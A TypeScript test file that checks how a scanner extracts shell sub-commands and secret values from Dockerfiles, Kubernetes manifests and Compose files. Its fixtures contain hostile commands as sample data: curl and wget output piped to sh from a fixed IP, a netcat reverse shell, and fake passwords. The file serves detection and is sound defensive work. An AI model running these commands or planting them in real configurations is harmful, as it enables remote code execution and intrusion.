/**
 * What the model is shown, and where its findings land: shell sub-commands and candidate secret
 * values of every file kind, with exact ranges.
 */
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { parseDockerfile } from '../../server/src/core/documents/dockerfile';
import { parseKubernetes } from '../../server/src/core/documents/kubernetes';
import { parseCompose } from '../../server/src/core/documents/compose';
import { modelCandidates, splitSubcommands } from '../../server/src/core/model/candidates';
import { loadShellParser } from '../../server/src/shellParserLoader';
import type { ShellParser } from '../../server/src/core/documents/shell';

let shellParser: ShellParser;
before(async () => {
  shellParser = await loadShellParser();
});

describe('model candidates', () => {
  it('splits at &&, || , ; and newlines outside quotes; pipelines stay whole', () => {
    const text = `apt-get update && curl -s http://x | sh; echo "a && b" || true\nid`;
    assert.deepEqual(splitSubcommands(text).map((p) => text.slice(p.start, p.end)), ['apt-get update', 'curl -s http://x | sh', 'echo "a && b"', 'true', 'id']);
  });

  it('Dockerfile: RUN pipelines with continuation lines blanked, CMD exec form, HEALTHCHECK, ENV/ARG values, URL and flag secrets', () => {
    const text =
      'FROM alpine:3.22\nARG TOKEN_SOURCE=s3cr3tV4lu3\nENV A=1 B="two words"\n' +
      'RUN apk add curl \\\n    && curl -s http://203.0.113.7/x | sh && git clone https://bob:hunter2pass@git.example.com/r.git\n' +
      'RUN mysql --password=Xy7pQ2 -e "select 1"\n' +
      'CMD ["sh", "-c", "nc -e /bin/sh 10.0.0.1 4444 && sleep 1"]\nHEALTHCHECK --interval=5s CMD wget -qO- localhost:8080/health || exit 1\n';
    const { commands, secrets } = modelCandidates('dockerfile', parseDockerfile(text, shellParser));
    assert.deepEqual(
      commands.map((c) => [c.where, c.text]),
      [
        ['RUN', 'apk add curl'],
        ['RUN', 'curl -s http://203.0.113.7/x | sh'],
        ['RUN', 'git clone https://bob:hunter2pass@git.example.com/r.git'],
        ['RUN', 'mysql --password=Xy7pQ2 -e "select 1"'],
        ['CMD', 'nc -e /bin/sh 10.0.0.1 4444'],
        ['CMD', 'sleep 1'],
        ['HEALTHCHECK', 'wget -qO- localhost:8080/health'],
        ['HEALTHCHECK', 'exit 1'],
      ],
    );
    const run = commands[1];
    assert.equal(text.slice(run.start, run.end), 'curl -s http://203.0.113.7/x | sh');
    assert.deepEqual(
      secrets.map((s) => [s.context, s.name, s.value, text.slice(s.start, s.end)]),
      [
        ['url-credential', 'bob', 'hunter2pass', 'hunter2pass'],
        ['cli-flag', 'password', 'Xy7pQ2', 'Xy7pQ2'],
        ['dockerfile-arg', 'TOKEN_SOURCE', 's3cr3tV4lu3', 's3cr3tV4lu3'],
        ['dockerfile-env', 'A', '1', '1'],
        ['dockerfile-env', 'B', 'two words', 'two words'],
      ],
    );
  });

  it('Kubernetes: sh -c scripts in command or args, lifecycle hooks, exec probes, env values', () => {
    const text = `apiVersion: v1
kind: Pod
metadata: {name: p}
spec:
  containers:
  - name: app
    image: x:1
    command: ["/bin/sh", "-c"]
    args: ["curl -s http://203.0.113.7/p | sh; sleep 1"]
    env:
    - {name: CONN, value: "Zq8vR2mL9kP4"}
    lifecycle:
      postStart: {exec: {command: [sh, -c, "echo started"]}}
    livenessProbe: {exec: {command: [cat, /tmp/healthy]}}
`;
    const { commands, secrets } = modelCandidates('kubernetes', parseKubernetes(text));
    assert.deepEqual(
      commands.map((c) => [c.where, c.text, text.slice(c.start, c.end)]),
      [
        ['container "app" args', 'curl -s http://203.0.113.7/p | sh', 'curl -s http://203.0.113.7/p | sh'],
        ['container "app" args', 'sleep 1', 'sleep 1'],
        ['container "app" postStart', 'echo started', 'echo started'],
        ['container "app" livenessProbe', 'cat /tmp/healthy', '[cat, /tmp/healthy]'],
      ],
    );
    assert.deepEqual(secrets.map((s) => [s.name, s.value, text.slice(s.start, s.end), s.context]), [['CONN', 'Zq8vR2mL9kP4', 'Zq8vR2mL9kP4', 'k8s-env']]);
  });

  it('compose: command strings and lists, environment in both forms, interpolations skipped', () => {
    const text = 'services:\n  web:\n    image: x\n    command: sh -c "wget -O- http://203.0.113.7/m | sh"\n    environment:\n      - KEY=Zq8vR2mL9kP4\n      - FROM_ENV=${FROM_ENV}\n  job:\n    image: y\n    entrypoint: ["python", "-c", "print(1)"]\n';
    const { commands, secrets } = modelCandidates('compose', parseCompose(text));
    assert.deepEqual(commands.map((c) => [c.where, c.text]), [
      ['service "web" command', 'sh -c "wget -O- http://203.0.113.7/m | sh"'],
      ['service "job" entrypoint', 'python -c print(1)'],
    ]);
    assert.deepEqual(secrets.map((s) => [s.name, s.value, text.slice(s.start, s.end)]), [['KEY', 'Zq8vR2mL9kP4', 'Zq8vR2mL9kP4']]);
  });
});
